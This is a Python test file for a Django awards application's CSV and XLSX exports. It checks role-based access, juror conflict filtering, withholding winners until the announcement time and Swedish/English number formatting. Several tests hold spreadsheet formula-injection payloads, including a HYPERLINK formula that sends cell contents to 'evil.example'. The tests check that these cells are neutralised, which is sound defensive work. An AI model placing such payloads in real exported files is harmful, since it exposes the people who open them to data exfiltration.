"""Exports as CSV and XLSX: what each role gets, conflicts honoured, no decision before its
moment, and cells a spreadsheet would run as formulas neutralised."""

import csv
import io
import re
from datetime import timedelta

import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from awards.choices import EditionPhase, EntryStanding
from awards.exports import csv_cell
from awards.models import Edition, Entry
from awards.services import edition_set_phase
from evaluation.selectors import round_of_edition
from evaluation.services import ScoreInput, scorecard_save
from tests.conftest import second_factor_queries, world_grow

pytestmark = pytest.mark.django_db


def read_csv(response) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))  # Swedish: semicolons


def read_xlsx(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def export(world, role, kind, fmt="csv", app="awards:export"):
    return world.client_for(role).get(reverse(app, args=[world.edition.slug, kind, fmt]))


def test_entries_export_lists_every_entry_with_state_contacts_and_public_standing(world):
    response = export(world, "organiser", "entries")
    assert response["Content-Disposition"] == (
        f'attachment; filename="{world.edition.slug}-entries.csv"'
    )
    assert response["X-Content-Type-Options"] == "nosniff"
    header, *rows = read_csv(response)
    assert header[0] == "Bidrag"
    by_title = {row[0]: row for row in rows}
    assert set(by_title) == {"Växjö", "Sundsvall"}
    assert by_title["Växjö"][3] == "Inskickat"
    assert world.users["municipality_a"].email in by_title["Växjö"][7]
    assert by_title["Växjö"][-1] == "Deltagare"


def test_no_export_carries_the_decision_before_the_moment(world):
    gala = timezone.now().replace(microsecond=0) + timedelta(days=5)
    Edition.objects.filter(pk=world.edition.pk).update(
        finalists_announce_at=timezone.now() - timedelta(days=1), announce_at=gala
    )
    Entry.objects.filter(pk=world.entry_a.pk).update(standing=EntryStanding.WINNER)
    Entry.objects.filter(pk=world.entry_b.pk).update(standing=EntryStanding.FINALIST)
    with time_machine.travel(gala - timedelta(seconds=1)):
        for fmt in ("csv", "xlsx"):
            body = export(world, "organiser", "entries", fmt)
            rows = read_csv(body) if fmt == "csv" else read_xlsx(body)
            standings = {row[0]: row[-1] for row in rows[1:]}
            assert standings == {"Växjö": "Slutnominerad", "Sundsvall": "Slutnominerad"}
    with time_machine.travel(gala):
        standings = {row[0]: row[-1] for row in read_csv(export(world, "organiser", "entries"))[1:]}
    assert standings["Växjö"] == "Vinnare"


def test_answers_export_follows_the_questionnaire_and_the_readers_conflicts(world):
    header, *rows = read_xlsx(export(world, "organiser", "answers", "xlsx"))
    assert header[:5] == ["Bidrag", "Kommuner", "Fråga 1", "Fråga 2", "Fråga 3"]
    assert header[-1] == "Bilagor"
    vaxjo = next(row for row in rows if row[0] == "Växjö")
    assert vaxjo[2] == "Växjö är stolt över sina e-tjänster."
    assert vaxjo[-1] == "Växjös strategi.pdf"
    jury = "evaluation:jury-export"
    juror_rows = read_csv(export(world, "juror", "answers", app=jury))
    assert {row[0] for row in juror_rows[1:]} == {"Växjö", "Sundsvall"}
    conflicted = read_csv(export(world, "conflicted_juror", "answers", app=jury))
    assert {row[0] for row in conflicted[1:]} == {"Sundsvall"}
    assert "Växjö är stolt" not in str(conflicted)


def test_contacts_export_is_for_organisers_only(world):
    header, *rows = read_csv(export(world, "organiser", "contacts"))
    assert header == ["Kommun", "Namn", "E-postadress", "Titel", "Språk"]
    assert {row[0] for row in rows} == {"Sundsvall", "Växjö"}
    for role in ("chair", "juror", "municipality_a"):
        assert export(world, role, "contacts").status_code == 403


def score(world, role, entry, value, submit=True):
    member = world.users[role].jury_seats.get()
    scoring_round = round_of_edition(world.edition, 1)
    criterion = world.edition.criteria.get()
    return scorecard_save(
        member=member,
        scoring_round=scoring_round,
        entry=entry,
        scores={criterion.pk: ScoreInput(value, '=HYPERLINK("http://evil")')},
        overall_comment="",
        seen_version=0,
        submit=submit,
    )


def test_scores_export_for_chair_and_organisers_with_independence_and_conflicts(world):
    edition_set_phase(edition=world.edition, to_phase=EditionPhase.EVALUATION)
    score(world, "juror", world.entry_a, 1)
    score(world, "juror", world.entry_b, 0)
    score(world, "conflicted_juror", world.entry_b, 1)
    jury = "evaluation:jury-export"
    organiser = read_csv(export(world, "organiser", "scores", app=jury))
    assert organiser[0][:5] == ["Omgång", "Bidrag", "Jurymedlem", "Kriterium", "Poäng"]
    assert len(organiser) == 4
    assert all(row[6].startswith("'=") for row in organiser[1:])  # no formula runs
    # The chair has scored nothing yet and the round is open: no other juror's scores.
    assert read_csv(export(world, "chair", "scores", app=jury)) == [organiser[0]]
    score(world, "chair", world.entry_b, 1)
    chair = read_csv(export(world, "chair", "scores", app=jury))
    assert {(row[1], row[2]) for row in chair[1:]} == {
        ("Sundsvall", str(world.users["juror"])),
        ("Sundsvall", str(world.users["conflicted_juror"])),
        ("Sundsvall", str(world.users["chair"])),
    }
    for role in ("juror", "conflicted_juror", "expert"):
        assert export(world, role, "scores", app=jury).status_code == 403


FORMULAS = (
    '=HYPERLINK("https://evil.example/?d="&B2,"x")',
    ' =HYPERLINK("https://evil.example/","x")',
    "\n=1+1",
    '\uff1dHYPERLINK("https://evil.example/","x")',
    "@SUM(A1)",
)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_question_texts_in_the_header_never_become_formulas(world, fmt):
    """The answers export's header holds the organisers' question texts."""
    for question, text in zip(world.questions, FORMULAS, strict=False):
        question.text = text
        question.save()
    response = export(world, "organiser", "answers", fmt)
    header = (read_csv if fmt == "csv" else read_xlsx)(response)[0]
    texts = header[2 : 2 + len(world.questions)]
    if fmt == "xlsx":  # typed as text, which never runs: shown as written
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert all(cell.data_type == "s" for cell in sheet[1])
        assert texts == list(FORMULAS[: len(texts)])
    else:
        assert texts == [f"'{text}" for text in FORMULAS[: len(texts)]]


def test_swedish_csv_has_semicolons_and_decimal_commas_english_commas_and_points(world):
    edition_set_phase(edition=world.edition, to_phase=EditionPhase.EVALUATION)
    score(world, "juror", world.entry_a, 1)
    client = world.client_for("organiser")
    url = reverse("evaluation:results-export", args=[world.edition.slug, 1, "csv"])
    swedish = client.get(url).content.decode("utf-8-sig")
    header, row = swedish.splitlines()[:2]
    assert header.startswith("Bidrag;")
    assert re.search(r";\d+,\d+", row)  # a weighted total with a decimal comma
    client.post(reverse("accounts:set-language"), {"language": "en"})
    english = client.get(url).content.decode("utf-8-sig")
    header, row = english.splitlines()[:2]
    assert header.startswith("Entry,")
    assert re.search(r",\d+\.\d+", row)


def test_xlsx_answers_beginning_with_minus_or_plus_read_as_written(world):
    answer = world.entry_a.answers.get(question=world.questions[0])
    answer.text = "- vi har 24 e-tjänster, ring +46 470 410 00"
    answer.save()
    _header, *rows = read_xlsx(export(world, "organiser", "answers", "xlsx"))
    assert "- vi har 24 e-tjänster, ring +46 470 410 00" in [row[2] for row in rows]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_after_blanks_or_in_full_width_is_neutralised(text):
    assert csv_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["Växjö", "10 - 2", "e-tjänster", "", "1 = 1"])
def test_ordinary_text_is_left_as_it_is(text):
    assert csv_cell(text) == text


def test_unknown_kinds_and_formats_are_404(world):
    assert export(world, "organiser", "passwords").status_code == 404
    assert export(world, "organiser", "entries", "exe").status_code == 404
    assert export(world, "chair", "secrets", app="evaluation:jury-export").status_code == 404


@pytest.mark.parametrize("extra", [0, 6])
@pytest.mark.parametrize(("kind", "ceiling"), [("entries", 11), ("answers", 12), ("contacts", 8)])
def test_exports_take_constant_queries(world, extra, kind, ceiling, django_assert_max_num_queries):
    world_grow(world, extra_entries=extra)
    client = world.client_for("organiser")
    url = reverse("awards:export", args=[world.edition.slug, kind, "csv"])
    with django_assert_max_num_queries(ceiling + second_factor_queries("organiser")):
        assert client.get(url).status_code == 200
